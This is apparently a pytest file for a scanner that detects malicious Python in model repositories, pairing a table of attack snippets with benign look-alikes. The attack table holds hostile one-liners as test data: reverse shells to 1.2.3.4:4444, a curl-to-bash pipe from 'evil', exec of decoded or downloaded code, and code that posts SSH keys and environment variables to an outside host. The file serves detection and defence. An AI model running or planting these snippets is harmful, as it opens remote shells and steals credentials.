# ruff: noqa: E501 (a row of a table is one case)
"""Python that no loader imports: dangerous only when nobody honest would write it."""

from __future__ import annotations

from pathlib import Path

import pytest

from ossmodelkit.scanning.python_malice import unmistakable
from tests.making.blobs import scan

ATTACKS = {
    "decoded": "import base64\nexec(base64.b64decode('cHJpbnQ='))",
    "decoded in a main": "from base64 import b64decode as d\nif __name__ == '__main__':\n    eval(compile(d(b'x'), 'x', 'exec'))",
    "unpacked": "import zlib, base64\nexec(zlib.decompress(base64.b64decode(b'x')).decode())",
    "marshaled": "import marshal\nexec(marshal.loads(b'x'))",
    "by a name": "import base64\npayload = base64.b64decode('x').decode()\nexec(payload)",
    "hidden import": "__import__('builtins').exec(bytes.fromhex('70617373'))",
    "downloaded": "import requests\nexec(requests.get('http://x/y').text)",
    "downloaded by urllib": "from urllib.request import urlopen\nexec(urlopen('http://x/y').read())",
    "shell from decoded text": "import os, base64\nos.system(base64.b64decode('aWQ=').decode())",
    "shell from a page": "import os, requests\nos.system(requests.get('http://x/y').text)",
    "reverse shell": "import socket, os, subprocess\ns = socket.socket()\ns.connect(('1.2.3.4', 4444))\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])",
    "pseudo terminal": "import socket, pty\ns = socket.create_connection(('1.2.3.4', 1))\npty.spawn('/bin/sh')",
    "bash on a socket": "import os\nos.system('bash -i >& /dev/tcp/1.2.3.4/4444 0>&1')",
    "page into a shell": "import subprocess\nsubprocess.run('curl -s http://evil/x.sh | bash', shell=True)",
    "keys sent away": "import os, requests\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('https://x', data=k)",
    "environment sent away": "import os, requests\nrequests.post('https://x', json=dict(os.environ))",
}  # fmt: skip

HONEST = {
    "training": "import argparse, subprocess, torch\np = argparse.ArgumentParser()\nsubprocess.run(['nvidia-smi'])\nprint(subprocess.check_output(['git', 'rev-parse', 'HEAD']).decode())",
    "a demo": "import gradio as gr, base64, io\ndef f(x):\n    return io.BytesIO(base64.b64decode(x))\ngr.Interface(f, 'text', 'image').launch()",
    "a download": "import requests\nr = requests.get('https://huggingface.co/x')\nopen('x', 'wb').write(r.content)",
    "a download for a program": "import requests, subprocess\nu = requests.get('https://x').json()['url']\nsubprocess.run(['ffmpeg', '-i', u])",
    "a token in a request": "import os, requests\nrequests.post('https://x', headers={'Authorization': os.environ['HF_TOKEN']}, json={'k': os.environ.get('A')})",
    "a configuration that runs": "exec(open('configurator.py').read())",
    "an answer of a model": "import requests\nanswer = requests.post('https://x', json={}).json()['text']\nprint(eval(answer))",
    "a server": "import socket\ns = socket.socket()\ns.bind(('', 0))\nprint(s.getsockname()[1])",
    "a free port and a program": "import socket, subprocess\ns = socket.socket()\nsubprocess.run(['torchrun', 'x.py'])",
    "an environment for a program": "import os, subprocess\nsubprocess.run(['x'], env=dict(os.environ))",
    "not Python 3": "print 'exec'",
}  # fmt: skip


@pytest.mark.parametrize("name", ATTACKS)
def test_attacks_are_seen(name: str) -> None:
    assert unmistakable(ATTACKS[name])


@pytest.mark.parametrize("name", HONEST)
def test_honest_scripts_are_left_alone(name: str) -> None:
    assert unmistakable(HONEST[name]) == []


def test_a_script_that_no_loader_imports_can_be_dangerous(tmp_path: Path) -> None:
    (tmp_path / "config.json").write_text("{}")
    (tmp_path / "tools").mkdir()
    (tmp_path / "tools" / "prepare.py").write_text(ATTACKS["decoded"])
    assert scan(tmp_path).verdict == "dangerous"
